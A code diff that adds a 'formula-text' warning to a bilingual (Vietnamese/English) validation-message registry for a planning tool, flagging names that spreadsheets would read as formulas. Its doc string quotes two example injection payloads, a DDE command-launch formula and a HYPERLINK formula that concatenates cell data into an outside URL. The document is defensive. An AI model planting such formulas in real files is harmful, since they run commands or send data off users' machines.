@@ -398,6 +398,20 @@ _add("subunit-without-measure", ERROR, "plans", "a `subunits` entry with neither
          'e.g. count: {{2030: 9}} for "09 huyện", or share: {{2020: 100}} for "100% xã"'),
      doc="A target on units (\"09 huyện đạt…\", \"100% xã…\") says how many units (`count`) or what "
          "share of them (`share`) by which year. Earlier versions reported this as `missing-key`.")
+_add("formula-text", WARNING, "plans", "a name or title that a spreadsheet would read as a formula",
+     vi=("'{text}' bắt đầu bằng một ký tự mà bảng tính (Excel, LibreOffice) coi là đầu một công thức (=, +, -, @)",
+         "viết lại cho khỏi bắt đầu bằng ký tự đó; biểu `xhht form` ghi nó như chữ, nhưng dán vào một bảng tính "
+         "khác nó có thể thành công thức (một liên kết gửi số liệu đi, hay một lệnh)"),
+     en=("'{text}' begins with a character a spreadsheet (Excel, LibreOffice) takes for the start of a formula "
+         "(=, +, -, @)",
+         "reword it so that it does not begin with that character; `xhht form` writes it as text, but pasted "
+         "into another spreadsheet it may become a formula (a link that sends the figures away, or a command)"),
+     doc="A plan's title, document number and issuer, group titles, indicator names and levels, and the names "
+         "in `areas.csv`, reach every commune's form and the spreadsheets officers copy them into. One that "
+         "begins with `=`, `+`, `-`, `@` (or a tab, a line break, or their full-width forms) is a formula or "
+         "a DDE call there: `=cmd|' /C calc'!A0`, `=HYPERLINK(\"http://…\"&D3,\"Bấm vào đây\")`. The "
+         "forms xhht writes hold such text as text (a string cell with the quote prefix), so the warning is "
+         "for the copies; it fails `check` only with `--strict`.")
 _add("unknown-parent-plan", ERROR, "plans", "`parent` names a plan id that no plan file has",
      vi=("kế hoạch cấp trên `{parent}` không có trong plans/ (các kế hoạch: {plans})",
          "thêm plans/{parent}.yaml chép văn bản cấp trên, hoặc bỏ `parent`"),
